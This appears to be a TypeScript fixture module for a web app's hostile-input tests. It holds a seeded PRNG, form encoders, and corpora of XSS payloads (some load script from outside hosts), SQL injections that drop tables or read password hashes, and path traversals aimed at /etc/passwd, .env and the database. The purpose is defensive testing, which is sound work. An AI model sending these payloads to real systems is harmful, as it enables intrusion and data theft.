/**
 * Material for the hostile-input suite (tests/integration/security/hostile.test.ts):
 * a seeded PRNG, payload corpora and byte-exact encoders for forms, so a
 * failing request can be rebuilt from its seed.
 */

/** mulberry32: small, fast, and the same sequence for the same seed on every machine. */
export class Rng {
  private state: number;

  constructor(readonly seed: number) {
    this.state = seed >>> 0;
  }

  next(): number {
    this.state = (this.state + 0x6d2b79f5) | 0;
    let t = Math.imul(this.state ^ (this.state >>> 15), 1 | this.state);
    t = (t + Math.imul(t ^ (t >>> 7), 61 | t)) ^ t;
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  }

  /** A whole number in [0, n). */
  int(n: number): number {
    return Math.floor(this.next() * n);
  }

  between(min: number, max: number): number {
    return min + this.int(max - min + 1);
  }

  chance(p: number): boolean {
    return this.next() < p;
  }

  pick<T>(items: readonly T[]): T {
    return items[this.int(items.length)];
  }

  /** Some of `items`, in random order, without repeats. */
  some<T>(items: readonly T[], count: number): T[] {
    const pool = [...items];
    const out: T[] = [];
    while (out.length < count && pool.length) out.push(pool.splice(this.int(pool.length), 1)[0]);
    return out;
  }

  bytes(n: number): Buffer {
    const out = Buffer.alloc(n);
    for (let i = 0; i < n; i++) out[i] = this.int(256);
    return out;
  }

  /** Printable text, with a sprinkling of Slovak letters and markup characters. */
  text(n: number): string {
    const alphabet = "abcdefghijklmnopqrstuvwxyz ABCDEFGHIJ0123456789 áäčďéíĺľňóôŕšťúýž.,;:!?-'\"<>&/\\()[]{}%_\n\t";
    let out = "";
    for (let i = 0; i < n; i++) out += alphabet[this.int(alphabet.length)];
    return out;
  }
}

/**
 * A representative set from the OWASP XSS filter-evasion cheat sheet, plus
 * mutation-XSS and namespace-confusion classics that target DOMPurify-style
 * sanitisers. Each must be stored and shown as harmless markup or text.
 */
export const XSS_PAYLOADS: readonly string[] = [
  "<script>alert('XSS')</script>",
  // The page cache's nonce placeholder of old, typed into an article: must stay text.
  "@@DEJINY-NONCE-0000000@@",
  '<script nonce="@@DEJINY-NONCE-0000000@@">alert(1)</script>',
  "<SCRIPT SRC=https://cdn.jsdelivr.net/gh/Moksh45/host-xss.rocks/index.js></SCRIPT>",
  "<ScRiPt>alert(document.cookie)</sCrIpT>",
  "<IMG SRC=\"javascript:alert('XSS');\">",
  "<IMG SRC=javascript:alert('XSS')>",
  "<IMG SRC=JaVaScRiPt:alert('XSS')>",
  "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
  '<a onmouseover="alert(document.cookie)">xxs link</a>',
  '<IMG """><SCRIPT>alert("XSS")</SCRIPT>">',
  "<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>",
  "<IMG SRC=# onmouseover=\"alert('xxs')\">",
  "<IMG SRC=/ onerror=\"alert(String.fromCharCode(88,83,83))\"></img>",
  "<img src=x onerror=alert(1)>",
  '<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041">',
  "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>",
  "<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>",
  "<IMG SRC=\"jav\tascript:alert('XSS');\">",
  "<IMG SRC=\"jav&#x09;ascript:alert('XSS');\">",
  "<IMG SRC=\"jav&#x0A;ascript:alert('XSS');\">",
  "<IMG SRC=\"jav&#x0D;ascript:alert('XSS');\">",
  "<IMG SRC=\" &#14;  javascript:alert('XSS');\">",
  '<SCRIPT/XSS SRC="http://xss.rocks/xss.js"></SCRIPT>',
  '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>',
  '<<SCRIPT>alert("XSS");//\\<</SCRIPT>',
  "<SCRIPT SRC=http://xss.rocks/xss.js?< B >",
  "<SCRIPT SRC=//xss.rocks/.j>",
  "<iframe src=http://xss.rocks/scriptlet.html <",
  '</TITLE><SCRIPT>alert("XSS");</SCRIPT>',
  "<INPUT TYPE=\"IMAGE\" SRC=\"javascript:alert('XSS');\">",
  "<BODY BACKGROUND=\"javascript:alert('XSS')\">",
  "<BODY ONLOAD=alert('XSS')>",
  "<svg/onload=alert('XSS')>",
  "<svg><script>alert(1)</script></svg>",
  "<STYLE>li {list-style-image: url(\"javascript:alert('XSS')\");}</STYLE><UL><LI>XSS</br>",
  "<STYLE>@import'http://xss.rocks/xss.css';</STYLE>",
  '<STYLE>BODY{-moz-binding:url("http://xss.rocks/xssmoz.xml#xss")}</STYLE>',
  "<LINK REL=\"stylesheet\" HREF=\"javascript:alert('XSS');\">",
  "<IMG STYLE=\"xss:expr/*XSS*/ession(alert('XSS'))\">",
  "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=javascript:alert('XSS');\">",
  '<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K">',
  "<IFRAME SRC=\"javascript:alert('XSS');\"></IFRAME>",
  "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
  "<FRAMESET><FRAME SRC=\"javascript:alert('XSS');\"></FRAMESET>",
  "<TABLE BACKGROUND=\"javascript:alert('XSS')\">",
  "<DIV STYLE=\"background-image: url(javascript:alert('XSS'))\">",
  "<BASE HREF=\"javascript:alert('XSS');//\">",
  '<OBJECT TYPE="text/x-scriptlet" DATA="http://xss.rocks/scriptlet.html"></OBJECT>',
  '<EMBED SRC="data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciPjxzY3JpcHQ+YWxlcnQoMSk8L3NjcmlwdD48L3N2Zz4=" type="image/svg+xml" AllowScriptAccess="always"></EMBED>',
  '<a href="javascript:alert(1)">klik</a>',
  '<a href="jav&#x09;ascript:alert(1)">klik</a>',
  '<a href="jav\nascript:alert(1)">klik</a>',
  '<a href="&#x6A;avascript:alert(1)">klik</a>',
  '<a href="javas&#99;ript:alert(1)">klik</a>',
  '<a href="&#0000106avascript:alert(1)">klik</a>',
  '<a href=" &#14; javascript:alert(1)">klik</a>',
  '<a href="java&Tab;script&colon;alert(1)">klik</a>',
  '<a href="\u0001javascript:alert(1)">klik</a>',
  '<a href="JaVaScRiPt:alert(1)">klik</a>',
  '<a href="vbscript:msgbox(1)">klik</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">klik</a>',
  '<A HREF="http://66.102.7.147/">XSS</A>',
  '<strong class="x" id="y" style="color:red">silné</strong>',
  '<p style="color:red" onclick="alert(1)">odsek</p>',
  "<b onmouseover=alert(1)>tučné</b>",
  "<details open ontoggle=alert(1)>",
  '<video><source onerror="alert(1)"></video>',
  "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
  '<math><mi><a href="javascript:alert(1)">x</a></mi></math>',
  '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">XSS</text></a></svg>',
  "<svg><style><img src=x onerror=alert(1)></style></svg>",
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
  "<scr<script>ipt>alert(1)</scr</script>ipt>",
  "<script",
  "<img src=x onerror=alert(1)//",
  '"><script>alert(1)</script>',
  "'><img src=x onerror=alert(1)>",
  "</textarea><script>alert(1)</script>",
  "</title><script>alert(1)</script>",
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  "<![CDATA[<script>alert(1)</script>]]>",
  "<xss onafterscriptexecute=alert(1)><script>1</script>",
  "<template><script>alert(1)</script></template>",
  "<object data=\"javascript:alert(1)\"></object>",
  "<embed src=\"javascript:alert(1)\">",
  '<form action="javascript:alert(1)"><button>x</button></form>',
  "<isindex type=image src=1 onerror=alert(1)>",
];

/** SQL meta-characters and classic injections (the app uses bound parameters: they must be plain text). */
export const SQL_PAYLOADS: readonly string[] = [
  "' OR 1=1 --",
  "' OR '1'='1",
  '" OR ""="',
  '"; DROP TABLE posts; --',
  "'; DROP TABLE users; --",
  "1; DELETE FROM posts",
  "') OR ('a'='a",
  "' UNION SELECT id, email, password_hash, 1, 1 FROM users --",
  "1 UNION ALL SELECT NULL,NULL,NULL--",
  "' AND 1=0 UNION SELECT sqlite_version() --",
  "%",
  "_",
  "%%",
  "\\",
  "\\'",
  "'",
  '"',
  "`",
  ";",
  "--",
  "/*",
  "*/",
  "' || (SELECT password_hash FROM users LIMIT 1) || '",
  "Morava' --",
  "Morava%",
  "M_rava",
  "'; UPDATE users SET is_admin=1; --",
  "' ; ATTACH DATABASE '/tmp/x.db' AS x; --",
  "0x27",
  "CHAR(39)",
];

/** Unicode edge cases, as text. (Byte-level tricks are in BYTE_TRICKS.) */
export const UNICODE_EDGES: readonly string[] = [
  "\u202Egnp.exe",
  "Morava\u202E",
  "\u2066Morava\u2069",
  "\u200B\u200C\u200D\u2060\uFEFF",
  "Mo\u200Brava",
  "Z\u0334\u0321\u0322\u0347\u0320a\u0338\u035Al\u0337g\u0336o\u0335",
  `a${"\u0301".repeat(2000)}`,
  "👩‍👩‍👧‍👦🇸🇰🏳️‍🌈👍🏽",
  "😀".repeat(60),
  "\uD800",
  "\uDFFF\uD800",
  "\uFFFE\uFFFF",
  "\u{10FFFF}",
  "\u3164\u115F",
  "\u00AD",
  "\u2028\u2029",
  "\r\n\r\n",
  "İıßẞﬁ",
  "\u{E0041}\u{E0042}",
  "\u0000",
  "a\u0000b",
  "Ｍｏｒａｖａ",
  "ᴹᵒʳᵃᵛᵃ",
  "𝐌𝐨𝐫𝐚𝐯𝐚",
  "\u1160\u3000\u00A0",
];

/** Byte sequences that are not (or not canonical) UTF-8, or not UTF-8 at all. */
export const BYTE_TRICKS: readonly { note: string; bytes: Buffer }[] = [
  { note: "invalid FF FE FD", bytes: Buffer.from([0x66, 0xff, 0xfe, 0xfd, 0x67]) },
  { note: "invalid C3 28", bytes: Buffer.from([0xc3, 0x28]) },
  { note: "lone continuation", bytes: Buffer.from([0xa0, 0xa1]) },
  { note: "truncated 3-byte", bytes: Buffer.from([0x4d, 0xe2, 0x28, 0xa1]) },
  { note: "5-byte form", bytes: Buffer.from([0xf8, 0xa1, 0xa1, 0xa1, 0xa1]) },
  { note: "overlong slash C0 AF", bytes: Buffer.from([0x2e, 0x2e, 0xc0, 0xaf, 0x2e, 0x2e, 0xc0, 0xaf]) },
  { note: "overlong slash E0 80 AF", bytes: Buffer.from([0xe0, 0x80, 0xaf]) },
  { note: "overlong dot C0 AE", bytes: Buffer.from([0xc0, 0xae, 0xc0, 0xae, 0x2f]) },
  { note: "overlong NUL C0 80", bytes: Buffer.from([0x61, 0xc0, 0x80, 0x62]) },
  { note: "overlong F0 80 80 AF", bytes: Buffer.from([0xf0, 0x80, 0x80, 0xaf]) },
  { note: "lone surrogate ED A0 80", bytes: Buffer.from([0xed, 0xa0, 0x80]) },
  { note: "lone surrogate ED BF BF", bytes: Buffer.from([0x4d, 0xed, 0xbf, 0xbf]) },
  { note: "beyond U+10FFFF", bytes: Buffer.from([0xf4, 0x90, 0x80, 0x80]) },
  { note: "NUL bytes", bytes: Buffer.from([0x4d, 0x00, 0x6f, 0x00, 0x00]) },
  { note: "UTF-16LE with BOM", bytes: Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from("Morava", "utf16le")]) },
  { note: "UTF-16BE with BOM", bytes: Buffer.concat([Buffer.from([0xfe, 0xff]), Buffer.from("Morava", "utf16le").swap16()]) },
  { note: "UTF-8 BOM", bytes: Buffer.from([0xef, 0xbb, 0xbf, 0x4d, 0x6f, 0x72, 0x61, 0x76, 0x61]) },
  { note: "Latin-1 é", bytes: Buffer.from([0x4f, 0x73, 0x74, 0x61, 0x74, 0x6e, 0xe9]) },
];

/** Lookalikes of real tags: each differs from the tag as stored, so none may match it. */
export function tagLookalikes(tag: string): string[] {
  return [
    tag.normalize("NFD"),
    tag.toUpperCase(),
    tag.toLowerCase(),
    ` ${tag}`,
    `${tag} `,
    `${tag}\u200B`,
    `\uFEFF${tag}`,
    `${tag}\u0000`,
    tag.replace(/a/g, "\u0430").replace(/o/g, "\u043E").replace(/e/g, "\u0435"), // Cyrillic а о е
    [...tag].map((c) => (c >= "!" && c <= "~" ? String.fromCodePoint(c.codePointAt(0)! + 0xfee0) : c)).join(""), // full width
    `${tag}%`,
    `${tag.slice(0, -1)}_`,
    `${tag}' --`,
  ].filter((lookalike) => lookalike !== tag);
}

/** /images/… paths that try to leave the image folder (sent as raw request targets, not normalised by a URL parser). */
export const IMAGE_TRAVERSALS: readonly string[] = [
  "/images/../../package.json",
  "/images/../server.js",
  "/images/..%2F..%2Fpackage.json",
  "/images/%2e%2e%2f%2e%2e%2fpackage.json",
  "/images/%2E%2E/%2E%2E/package.json",
  "/images/%252e%252e%252fpackage.json",
  "/images/..%252f..%252fpackage.json",
  "/images/..\\..\\package.json",
  "/images/..%5C..%5Cpackage.json",
  "/images/%5C..%5C..%5Cserver.js",
  "/images/....//....//package.json",
  "/images/..;/package.json",
  "/images/%c0%ae%c0%ae/%c0%ae%c0%aepackage.json",
  "/images/%c0%af..%c0%afpackage.json",
  "/images/\xc0\xae\xc0\xae/package.json",
  "/images/%00",
  "/images/abcdefghijklmnop-400.jpg%00.png",
  "/images/abcdefghijklmnop-400.jpg%00",
  "/images/%2Fetc%2Fpasswd",
  "/images//etc/passwd",
  "/images/file:%2F%2F%2Fetc%2Fpasswd",
  "/images/..%00/package.json",
  "/images/.gitkeep",
  "/images/.",
  "/images/..",
  "/images/%2e",
  "/images/%2e%2e",
  "/images/%",
  "/images/%zz",
  "/images/%E0%A4%A",
  "/images/%ED%A0%80-400.jpg",
  "/images/abcdefghijklmno%2F-400.jpg",
  "/images/abcdefghijklmnop-400.jpg/",
  "/images/abcdefghijklmnop-400.jpg?../../package.json",
  "/images/abcdefghijklmnop-401.jpg",
  "/images/abcdefghijklmnop-400.JPG",
  "/images/abcdefghijklmnop-400.svg",
  "/images/abcdefghijklmnop-400.jpg.html",
  "/images/\\\\evil.example\\share\\x.jpg",
  "/images/%5C%5Cevil.example%5Cx.jpg",
  "/images/..%2F..%2Fdata%2Fdejiny.db",
  "/images/..%2Fdata%2Fdejiny.db-wal",
  "/images/..%2Foutbox",
  "/images/CON",
  "/images/aux.jpg",
];

/** Requests for files that must never be served (sent as raw request targets). */
export const PRIVATE_FILES: readonly string[] = [
  "/package.json",
  "/package-lock.json",
  "/server.js",
  "/.env",
  "/.git/config",
  "/build/server/index.js",
  "/server/index.js",
  "/data/dejiny.db",
  "/dejiny.db",
  "/../data/dejiny.db",
  "/../../etc/passwd",
  "/assets/../../server.js",
  "/assets/..%2F..%2Fserver.js",
  "/assets/%2e%2e/%2e%2e/package.json",
  "/%2e%2e/%2e%2e/package.json",
  "/%2e%2e%2fpackage.json",
  "/..%5Cpackage.json",
  "/uploads/",
  "/app/config/env.server.ts",
  "/node_modules/.package-lock.json",
  "/tags.json/../../package.json",
  "/img/../../package.json",
  "/img/..%2F..%2Fserver.js",
  "/.ci/run",
  "/drizzle/meta/_journal.json",
];

/** Each byte as it appears percent-encoded: unreserved characters as themselves, the rest as %XX. */
const PCT = Array.from({ length: 256 }, (_, byte) => {
  const c = String.fromCharCode(byte);
  return /[A-Za-z0-9\-._~]/.test(c) ? c : `%${byte.toString(16).toUpperCase().padStart(2, "0")}`;
});

/** Percent-encode raw bytes as a browser would in a form or a query (unreserved bytes kept). */
export function pct(bytes: Buffer | string): string {
  const buffer = typeof bytes === "string" ? Buffer.from(bytes) : bytes;
  const out = new Array<string>(buffer.length);
  for (let i = 0; i < buffer.length; i++) out[i] = PCT[buffer[i]];
  return out.join("");
}

export type Field = [name: string, value: Buffer | string];

/** An application/x-www-form-urlencoded body, byte for byte. */
export function urlencoded(fields: Field[]): Buffer {
  return Buffer.from(fields.map(([name, value]) => `${pct(name)}=${pct(value)}`).join("&"));
}

export type Part = {
  /** The part's header block (a string is sent as UTF-8, a Buffer as is); a default Content-Disposition when missing. */
  headers?: string | Buffer;
  name?: string;
  filename?: string;
  contentType?: string;
  body: Buffer | string;
};

/** A multipart/form-data body with `boundary`, byte for byte; `close: false` leaves out the final boundary. */
export function multipart(boundary: string, parts: Part[], { close = true, newline = "\r\n" } = {}): Buffer {
  const chunks: Buffer[] = [];
  for (const part of parts) {
    let headers = part.headers;
    if (headers === undefined) {
      headers = `Content-Disposition: form-data; name="${part.name ?? ""}"${part.filename !== undefined ? `; filename="${part.filename}"` : ""}`;
      if (part.contentType) headers += `${newline}Content-Type: ${part.contentType}`;
    }
    chunks.push(Buffer.from(`--${boundary}${newline}`), typeof headers === "string" ? Buffer.from(headers) : headers, Buffer.from(`${newline}${newline}`));
    chunks.push(typeof part.body === "string" ? Buffer.from(part.body) : part.body, Buffer.from(newline));
  }
  if (close) chunks.push(Buffer.from(`--${boundary}--${newline}`));
  return Buffer.concat(chunks);
}
